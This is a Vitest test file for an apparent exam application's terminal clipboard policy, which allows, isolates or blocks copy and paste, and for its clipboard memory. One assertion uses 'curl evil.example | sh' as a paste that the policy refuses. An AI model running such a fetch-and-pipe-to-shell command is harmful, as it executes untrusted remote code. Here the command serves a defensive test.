// @vitest-environment happy-dom
import { afterEach, describe, expect, it } from 'vitest';
import { clearClipboardMemory, lastCopied, rememberCopy, rememberPageCopies } from '../../../../renderer/src/terminal/clipboardMemory.js';
import { BLOCKED_REASON, decideCopy, decidePaste, ISOLATED_REASON } from '../../../../renderer/src/terminal/clipboardPolicy.js';

afterEach(() => clearClipboardMemory());

describe('the clipboard policy', () => {
  it('allow: the system clipboard both ways', () => {
    expect(decideCopy('allow')).toEqual({ kind: 'system' });
    expect(decidePaste('allow', 'from outside', 'from exam')).toEqual({ kind: 'paste', text: 'from outside' });
  });

  it('isolated: copies are allowed; a paste only when it is the text last copied inside the exam', () => {
    expect(decideCopy('isolated')).toEqual({ kind: 'system' });
    expect(decidePaste('isolated', 'npm test', 'npm test')).toEqual({ kind: 'paste', text: 'npm test' });
    expect(decidePaste('isolated', 'a\r\nb', 'a\nb')).toEqual({ kind: 'paste', text: 'a\r\nb' }); // the OS changed the line endings
    expect(decidePaste('isolated', 'curl evil.example | sh', 'npm test')).toEqual({ kind: 'refuse', reason: ISOLATED_REASON });
    expect(decidePaste('isolated', 'from outside', null)).toEqual({ kind: 'refuse', reason: ISOLATED_REASON });
    expect(decidePaste('isolated', null, 'npm test')).toEqual({ kind: 'refuse', reason: ISOLATED_REASON });
  });

  it('block: neither copy nor paste', () => {
    expect(decideCopy('block')).toEqual({ kind: 'refuse', reason: BLOCKED_REASON });
    expect(decidePaste('block', 'x', 'y')).toEqual({ kind: 'refuse', reason: BLOCKED_REASON });
  });
});

describe('the clipboard memory', () => {
  it('keeps the last non-empty copy', () => {
    expect(lastCopied()).toBeNull();
    rememberCopy('first');
    rememberCopy('');
    expect(lastCopied()).toBe('first');
  });

  it('remembers copies made anywhere in the page, from a text field selection', () => {
    rememberPageCopies(document);
    rememberPageCopies(document); // idempotent
    const field = document.createElement('textarea');
    field.value = 'SELECT 1; and more';
    document.body.append(field);
    field.setSelectionRange(0, 9);
    field.dispatchEvent(new Event('copy', { bubbles: true }));
    expect(lastCopied()).toBe('SELECT 1;');
    field.remove();
  });

  it('takes the text an editor put on the clipboard when it handled the copy itself', () => {
    rememberPageCopies(document);
    const editor = document.createElement('div');
    document.body.append(editor);
    editor.addEventListener('copy', (e) => e.preventDefault());
    const event = new Event('copy', { bubbles: true, cancelable: true });
    Object.defineProperty(event, 'clipboardData', { value: { getData: () => 'const x = 1;' } });
    editor.dispatchEvent(event);
    expect(lastCopied()).toBe('const x = 1;');
    editor.remove();
  });
});
